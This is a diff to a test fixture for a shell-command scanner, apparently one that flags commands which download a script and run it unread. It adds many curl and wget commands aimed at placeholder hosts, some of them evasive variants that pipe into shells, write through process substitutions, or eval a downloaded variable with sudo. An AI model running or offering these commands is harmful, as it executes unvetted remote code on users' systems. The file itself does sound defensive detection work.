@@ -77,6 +77,30 @@ DOWNLOADS_RUN = [
     "curl -fsSL https://x.example/i.sh &> >(bash)",
     "curl -fsSL https://x.example/i.sh | tee >(bash)",
     "curl -fsSL https://x.example/i.sh | tee /tmp/i.log >(sh) > /dev/null",
+    # Its output file is a process substitution that runs it.
+    "curl -o >(sh) https://x.example/i.sh",
+    "curl -fsSL --output >(bash) https://x.example/i.sh",
+    "curl -fsSL --output=>(bash -s -- -y) https://x.example/i.sh",
+    "curl -fsSLo>(sh) https://x.example/i.sh",
+    "curl https://x.example/i.sh -o >(sudo bash)",
+    "wget -O >(sh) https://x.example/i.sh",
+    "wget -qO >(sudo -E bash -) https://x.example/i.sh",
+    "wget --output-document=>(bash) https://x.example/i.sh",
+    # Each of several assignments holds its own value; a command's own assignments are in
+    # the environment of the scripts it runs.
+    'x=$(curl -fsSL https://x.example/i.sh) y=2; eval "$x"',
+    'a=$(cat /etc/hostname) b=$(curl -fsSL https://x.example/i.sh); eval "$b"',
+    'export a=1 b="$(wget -qO- https://x.example/i.sh)"; bash -c "$b"',
+    "a=1 b=$(curl -fsSL https://x.example/i.sh) sh -c 'eval \"$b\"'",
+    'x=$(curl -fsSL https://x.example/i.sh | tee /tmp/i.log); eval "$x"',
+    'x=$(curl -fsSL https://x.example/i.sh); y="$x"; eval "$y"',
+    'x=$(curl -fsSL https://x.example/i.sh) && export y=${x} z=1 && sh -c "$y"',
+    # Interpreters told to read their script from standard input.
+    "curl -fsSL https://x.example/get.py | python - --version 1.2",
+    "curl -fsSL https://x.example/get.py | python3 /dev/stdin --user",
+    "curl -fsSL https://x.example/i.pl | sudo perl -w -",
+    "curl -fsSL https://get.example/install | fish",
+    "curl -fsSL https://x.example/i.sh | sh /dev/stdin --yes",
 ]
 # Downloads kept, filtered or unpacked, and scripts run from a file: no finding.
 DOWNLOADS_KEPT = [
@@ -116,6 +140,28 @@ DOWNLOADS_KEPT = [
     "curl -fsSL https://x.example/i.sh 2> >(bash) > /tmp/i.sh",
     "bash -o pipefail -c 'curl -fsSLo /tmp/x https://x.example/x'",
     "bash -o pipefail /tmp/i.sh <(curl -fsSL https://x.example/args)",
+    "curl -o >(tee /tmp/i.sh) https://x.example/i.sh",
+    "curl -o >(bash /tmp/setup.sh) https://x.example/data.json",
+    "curl -o /tmp/i.sh --stderr >(sh) https://x.example/i.sh",
+    "wget -O >(sha256sum) https://x.example/i.sh",
+    # Another of the assignments holds the download, or none does: it is checked, not kept.
+    'a=$(cat /etc/hostname) b=$(curl -fsSL https://x.example/i.sh); eval "$a"',
+    'x=$(curl -fsSL https://x.example/v.txt) y=$(date); eval "$y"',
+    'export a=1 b="$(curl -fsSL https://x.example/i.sh)"; eval "$a"',
+    'x=$(curl -fsSL https://x.example/i.sh); y="$x.sh" x=1; eval "$y"; eval "$x"',
+    'x=$(curl -fsSL https://x.example/i.sh | sha256sum -c i.sum); eval "$x"',
+    'x=$(curl -fsSL https://x.example/i.sh | sha256sum); echo "$x" | sh',
+    'x=$(curl -fsSL https://x.example/i.sh | tee /tmp/i.sh > /dev/null); eval "$x"',
+    "b=$(curl -fsSL https://x.example/v.txt) sh -c 'echo \"$b\"'",
+    "curl -fsSL https://x.example/get.py | python3 -m json.tool",
+    # A shell given a script file runs that file; the download is only its input.
+    "curl -fsSL https://x.example/data.json | bash /opt/import.sh",
+    "curl -fsSL https://x.example/data.json > >(sh /opt/import.sh --stdin)",
+    # Downloaded to a file, checked or not, then run from it; unpacked, then run (the spec:
+    # not a download run unread).
+    "curl -fsSL https://x.example/i.sh -o x.sh && sh x.sh",
+    'curl -fsSLo x.sh https://x.example/i.sh && echo "abc  x.sh" | sha256sum -c && sh x.sh',
+    "curl -fsSL https://x.example/a.tgz | tar xz && ./installer --yes",
     # Shell text in a quoted argument of a command that does not run it.
     'echo "curl https://x.example/i.sh | sh"',
     'echo "bash <(curl -fsSL https://x.example/i.sh)"',
